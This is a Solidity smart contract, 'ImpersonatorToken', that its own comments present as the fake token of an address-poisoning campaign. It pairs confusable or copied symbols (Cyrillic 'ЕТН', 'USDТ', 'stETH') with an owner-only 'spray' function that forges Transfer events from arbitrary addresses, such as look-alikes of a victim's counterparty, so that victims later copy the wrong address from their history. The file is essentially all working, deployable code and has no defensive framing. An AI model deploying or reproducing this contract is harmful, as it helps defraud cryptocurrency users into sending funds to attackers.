// SPDX-License-Identifier: MIT
pragma solidity 0.8.26;

/// @title ImpersonatorToken
/// @notice An address-poisoning campaign's fake ERC-20: a confusable symbol (Cyrillic "ЕТН", "USDТ") or a
/// copied one ("stETH" at another contract), and `spray`, which emits Transfer events from any address
/// it likes (a look-alike of a victim's counterparty, or the victim itself) that never held the token.
contract ImpersonatorToken {
    string public name;
    string public symbol;
    uint8 public immutable decimals;
    address public immutable owner;
    uint256 public totalSupply;

    mapping(address => uint256) public balanceOf;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(string memory name_, string memory symbol_, uint8 decimals_) {
        name = name_;
        symbol = symbol_;
        decimals = decimals_;
        owner = msg.sender;
    }

    /// @notice Credits each `to` with `amount` under a Transfer that claims to come from `from`.
    function spray(address from, address[] calldata to, uint256 amount) external {
        require(msg.sender == owner, "not owner");
        for (uint256 i = 0; i < to.length; i++) {
            balanceOf[to[i]] += amount;
            totalSupply += amount;
            emit Transfer(from, to[i], amount);
        }
    }

    function transfer(address to, uint256 value) external returns (bool) {
        require(balanceOf[msg.sender] >= value, "balance");
        balanceOf[msg.sender] -= value;
        balanceOf[to] += value;
        emit Transfer(msg.sender, to, value);
        return true;
    }
}
